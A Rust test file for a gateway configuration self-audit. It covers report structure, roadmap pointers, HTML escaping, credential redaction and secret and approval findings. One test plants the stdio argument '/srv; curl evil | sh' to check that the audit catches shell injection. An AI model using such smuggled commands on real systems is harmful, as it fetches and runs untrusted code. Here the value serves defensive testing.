//! The report's shape against the seed's sample (gap matrix with effort and roadmap pointers,
//! roadmap outcomes and dependencies, graded evidence rows, a verdict reasoned from the
//! safety-critical dimensions), its HTML, and the findings whose sentences follow the config.

use super::*;

#[tokio::test]
async fn the_report_has_the_samples_shape_and_every_pointer_resolves() {
    // Gaps of several severities: no trace exporter (medium), writes without approval (high),
    // no org required (low).
    let text = flip(
        "  otlp: { endpoint: \"http://127.0.0.1:4318\" }",
        "  service_name: portcullis",
    )
    .replace("  require: [org]\n", "  require: []\n")
        + "approvals: { required_from: none }\n";
    let r = audit_of(&text).await;
    // The sample's dimension titles.
    let titles: Vec<&str> = r.dimensions.iter().map(|d| d.title).collect();
    assert!(
        titles.contains(&"Multi-LLM routing & cost controls"),
        "{titles:?}"
    );
    assert!(
        titles.contains(&"Security, secrets & identity (IDP)"),
        "{titles:?}"
    );
    let cost = r.dimensions.iter().find(|d| d.key == "cost").unwrap();
    assert!(
        cost.looked_at
            .contains("upstream MCP servers rather than to models")
    );
    // Roadmap ids are R1.. in order; each item says its outcome; dependencies point backwards
    // within a dimension.
    let items: Vec<&crate::selfaudit::RoadmapItem> =
        r.roadmap.iter().flat_map(|p| &p.items).collect();
    assert!(!items.is_empty());
    for (n, item) in items.iter().enumerate() {
        assert_eq!(item.id, format!("R{}", n + 1));
        assert!(
            item.outcome
                .contains(&format!("`{}` reported as a pass", item.finding)),
            "{item:?}"
        );
        for dep in &item.depends_on {
            let earlier = items.iter().position(|i| &i.id == dep).unwrap();
            assert!(earlier < n);
            assert_eq!(items[earlier].dimension, item.dimension);
        }
    }
    // Every non-green dimension with a fix names its effort and the items that close it; green
    // ones name none.
    for d in &r.dimensions {
        let closing: Vec<&String> = items
            .iter()
            .filter(|i| i.dimension == d.number)
            .map(|i| &i.id)
            .collect();
        assert_eq!(d.roadmap.iter().collect::<Vec<_>>(), closing, "{}", d.key);
        if d.status == Status::Pass {
            assert!(d.effort.is_none() && d.roadmap.is_empty(), "{}", d.key);
        }
    }
    let rbac = r.dimensions.iter().find(|d| d.key == "rbac").unwrap();
    assert_ne!(rbac.status, Status::Pass);
    assert!(
        rbac.effort.is_some() && !rbac.roadmap.is_empty(),
        "{rbac:?}"
    );
    // Each evidence row carries the rubric line, colour and severity of the worst finding citing it.
    for e in &r.evidence {
        assert!(!e.rubric.is_empty(), "{e:?}");
        let worst = r
            .findings
            .iter()
            .filter(|f| f.evidence.contains(&e.id))
            .max_by_key(|f| (f.status, f.severity));
        if let Some(f) = worst {
            assert_eq!(e.color, f.status.color(), "{e:?}");
            assert!(e.rubric.contains(&format!("(`{}`)", f.id)), "{e:?}");
            assert_eq!(e.severity.is_some(), f.status != Status::Pass, "{e:?}");
        }
    }
    assert!(r.evidence.iter().any(|e| {
        e.rubric
            .starts_with("Partial: the intent exists but has gaps")
    }));
    assert!(
        r.evidence
            .iter()
            .any(|e| e.rubric.starts_with("Production-grade"))
    );
    // The verdict reasons from dimensions 01, 02 and 06 first, and names what holds it back.
    let v = &r.verdict_reasoning;
    assert!(v.starts_with("The safety-critical dimensions decide first: 01 Tool-access governance & RBAC is yellow"), "{v}");
    assert!(
        v.contains("02 Fail-close vs fail-open is ")
            && v.contains("06 Security, secrets & identity (IDP) is "),
        "{v}"
    );
    assert!(v.contains("has gaps") || v.contains("have gaps"), "{v}");
    assert!(v.contains("04 Observability & tracing"), "{v}");
    assert_ne!(v, &r.summary);
    // Both renderings carry the new columns and the reasoning.
    let md = crate::selfaudit::markdown(&r);
    assert!(md.contains("| # | Dimension | Status | Finding | Severity | Effort | Roadmap |"));
    assert!(md.contains("| Id | Kind | Source | Observed | Rubric | Colour | Severity |"));
    assert!(md.contains("*Outcome:*"));
    assert!(md.contains(v.as_str()));
    let html = crate::selfaudit::html(&r);
    assert!(html.contains("<th>Effort</th><th>Roadmap</th>"));
    assert!(html.contains("<li id=\"R1\">"));
    assert!(html.contains("<a href=\"#R1\">R1</a>") || items.iter().all(|i| i.id != "R1"));
    assert!(html.contains("td.s-partial{background:#fff8c5;font-weight:600;white-space:nowrap}"));
    assert!(html.contains("overflow-wrap:anywhere"));
}

#[tokio::test]
async fn a_clean_config_reasons_its_verdict_from_green_safety_dimensions() {
    let r = audit_of(CLEAN).await;
    let v = &r.verdict_reasoning;
    for d in r
        .dimensions
        .iter()
        .filter(|d| [1, 2, 6].contains(&d.number))
    {
        assert!(
            v.contains(&format!("{:02} {} is {}", d.number, d.title, d.color)),
            "{v}"
        );
    }
}

#[test]
fn html_text_is_escaped_and_backticks_become_code() {
    use crate::selfaudit::html::text;
    assert_eq!(
        text("set `a<b>` & go"),
        "set <code>a&lt;b&gt;</code> &amp; go"
    );
    assert_eq!(text("one ` left <x>"), "one ` left &lt;x&gt;");
    assert_eq!(text("<script>\"'"), "&lt;script&gt;&quot;&#39;");
}

#[tokio::test]
async fn runtime_key_grants_unbounded_by_config_are_flagged() {
    let r = audit_of(&flip("  require: [org]", "  require: []")).await;
    assert_flagged(
        &r,
        "onboard.source_of_truth",
        "onboarding",
        "t.yaml:5:12 `identity.require`",
    );
    // With a required level whose grants live in the config, keys cannot reach beyond it.
    assert_eq!(
        finding(&audit_of(CLEAN).await, "onboard.source_of_truth").status,
        Status::Pass
    );
}

#[tokio::test]
async fn approvals_off_without_write_tools_is_no_gap() {
    let reads = flip("      create_note:", "      get_note: { class: read }")
        .replace("\"notes/create_note\"", "\"notes/get_note\"");
    let r = audit_of(&format!("{reads}approvals: {{ required_from: none }}\n")).await;
    assert_eq!(finding(&r, "rbac.approvals").status, Status::Pass);
}

#[tokio::test]
async fn urls_are_cited_without_credentials_or_queries() {
    let text = CLEAN
        .replace(
            "http://127.0.0.1:4318",
            "https://otel.example.com:4318?token=abc123",
        )
        .replace(
            "listen: 127.0.0.1:8080",
            "listen: 0.0.0.0:8080\npublic_url: http://gw.example.com",
        );
    let r = audit_of(&text).await;
    // A password inside a URL does not load at all, and the error does not repeat it.
    let with_password = text.replace(
        "http://gw.example.com",
        "http://u:hunter2hunter2@gw.example.com",
    );
    let e = registry::load_str("t.yaml", &with_password)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("a password inside a URL") && !e.contains("hunter2"),
        "{e}"
    );
    let json = serde_json::to_string(&r).unwrap();
    for leaked in ["s3cr3tpassw0rd", "abc123", "hunter2hunter2"] {
        assert!(!json.contains(leaked), "{leaked} repeated");
        assert!(!crate::selfaudit::markdown(&r).contains(leaked));
        assert!(!crate::selfaudit::html(&r).contains(leaked));
    }
    assert!(json.contains("https://otel.example.com:4318?…"));
}

#[tokio::test]
async fn shell_syntax_in_a_stdio_argument_fails_the_ci_gate_and_is_cited() {
    let text = CLEAN
        .replace(
            "  notes:\n    builtin: notes\n",
            &format!(
                "  files:\n    command: {{ program: /bin/echo, integrity: \"sha256:{}\", args: [\"--root\", \"/srv; curl evil | sh\"] }}\n    tools: {{ read_file: {{ class: read }} }}\n  notes:\n    builtin: notes\n",
                "ab".repeat(32)
            ),
        )
        .replace(
            "\"notes/create_note\"]",
            "\"notes/create_note\", \"files/read_file\"]",
        );
    let r = audit_of(&text).await;
    assert_ne!(finding(&r, "onboard.ci_gate").status, Status::Pass);
    let cites = cited(&r, "onboard.ci_gate").join("\n");
    assert!(
        cites.contains("servers.files.command.args[1]") && cites.contains("shell metacharacter"),
        "{cites}"
    );
}

#[tokio::test]
async fn a_static_upstream_secret_is_reported_as_one_and_apart_from_none() {
    let text = CLEAN.replace(
        "  notes:\n    builtin: notes\n",
        &format!(
            "  web:\n    url: https://tools.example.com/mcp\n    credentials: {{ bearer: env:WEB_TOKEN }}\n    tools: {{ fetch_page: {{ class: read }} }}\n    pin: {{ fetch_page: \"sha256:{p}\" }}\n  bare:\n    url: https://bare.example.com/mcp\n    tools: {{ list_items: {{ class: read }} }}\n    pin: {{ list_items: \"sha256:{p}\" }}\n  notes:\n    builtin: notes\n",
            p = "ab".repeat(32)
        ),
    );
    let r = audit_of(&text).await;
    let cites = cited(&r, "id.token_exchange").join("\n");
    assert!(
        cites.contains("servers.web.credentials")
            && cites
                .contains("a static secret by reference (`authorization` from `env:WEB_TOKEN`)"),
        "{cites}"
    );
    assert!(
        cites.contains("no credential: the upstream is reached with none"),
        "{cites}"
    );
    assert!(!cites.contains("no credentials configured"), "{cites}");
    // Callers sign in at an IdP: one static secret for all of them is a finding on its line.
    let f = finding(&r, "id.token_exchange");
    assert_eq!((f.status, f.cause), (Status::Partial, Some(Cause::Config)));
    assert!(
        f.title
            .contains("1 upstream(s) get one credential for every caller (web)"),
        "{}",
        f.title
    );
    // Exchanged per caller instead: passes, citing the exchange.
    let exchanged = text.replace(
        "credentials: { bearer: env:WEB_TOKEN }",
        "credentials: { token_exchange: { issuer: https://idp.example.com, client_id: gw, client_secret: env:S, audience: web-api, scope: web } }",
    );
    let r = audit_of(&exchanged).await;
    assert_eq!(finding(&r, "id.token_exchange").status, Status::Pass);
    let cites = cited(&r, "id.token_exchange").join("\n");
    assert!(
        cites.contains("servers.web.credentials.token_exchange")
            && cites.contains("token exchange for `web-api` (scope `web`); API keys: refused"),
        "{cites}"
    );
}

#[tokio::test]
async fn a_checklist_area_says_what_its_score_means() {
    let why = |r: &Report, key: &str| {
        let a = r.checklist.areas.iter().find(|a| a.key == key).unwrap();
        (a.score, a.why.clone())
    };
    let r = audit_of(CLEAN).await;
    let (score, text) = why(&r, "tool_approval");
    assert_eq!(score, 2);
    assert!(
        text.starts_with("write and destructive tools wait for a human"),
        "{text}"
    );
    // With approvals off, the sentence no longer claims them.
    let off = audit_of(&format!("{CLEAN}approvals: {{ required_from: none }}\n")).await;
    let (score, text) = why(&off, "tool_approval");
    assert!(score < 2, "{score}");
    assert!(!text.contains("wait for a human, bound"), "{text}");
    let (score, text) = why(&off, "prompt_injection");
    assert_eq!(score, 1);
    assert!(
        !text.contains("and human approval for state changes"),
        "{text}"
    );
}

#[tokio::test]
async fn a_body_limit_raised_far_past_the_default_is_a_finding() {
    let r = audit_of(CLEAN).await;
    assert_eq!(finding(&r, "cost.request_bounds").status, Status::Pass);
    let raised = format!("{CLEAN}http: {{ max_body: 1024MiB }}\n");
    let r = audit_of(&raised).await;
    let f = finding(&r, "cost.request_bounds");
    assert_eq!(f.status, Status::Partial);
    assert!(
        f.title.contains("`http.max_body` is 1024 MiB"),
        "{}",
        f.title
    );
    assert!(
        cited(&r, "cost.request_bounds")
            .iter()
            .any(|c| c.contains("`http.max_body`") && c.contains("1073741824 bytes")),
        "{:?}",
        cited(&r, "cost.request_bounds")
    );
}

#[tokio::test]
async fn operators_unscoped_by_org_are_a_gap_only_where_there_are_tenants() {
    // CLEAN requires an org and grants `org:acme`: operators see every tenant.
    let r = audit_of(CLEAN).await;
    let f = finding(&r, "id.operator_scope");
    assert_eq!((f.status, f.cause), (Status::Partial, Some(Cause::Unbuilt)));
    assert!(f.title.contains("not scoped by org"), "{f:?}");
    // No org anywhere: one tenant, nothing to keep apart.
    let single = CLEAN
        .replace("  require: [org]\n", "  require: []\n")
        .replace("  org:acme: [", "  key:*: [");
    let r = audit_of(&single).await;
    assert_eq!(finding(&r, "id.operator_scope").status, Status::Pass);
}

#[test]
fn an_exporters_error_is_cited_without_credentials() {
    let why = "error sending request for url (http://user:pa55@collector.example:4318/v1/traces?token=abc): connection refused";
    let shown = crate::selfaudit::probes::for_record(why);
    assert!(
        !shown.contains("pa55") && !shown.contains("token=abc"),
        "{shown}"
    );
    assert!(
        shown.contains("collector.example:4318/v1/traces") && shown.contains("connection refused"),
        "{shown}"
    );
    let long = "x ".repeat(400);
    assert!(crate::selfaudit::probes::for_record(&long).len() <= 304);
}
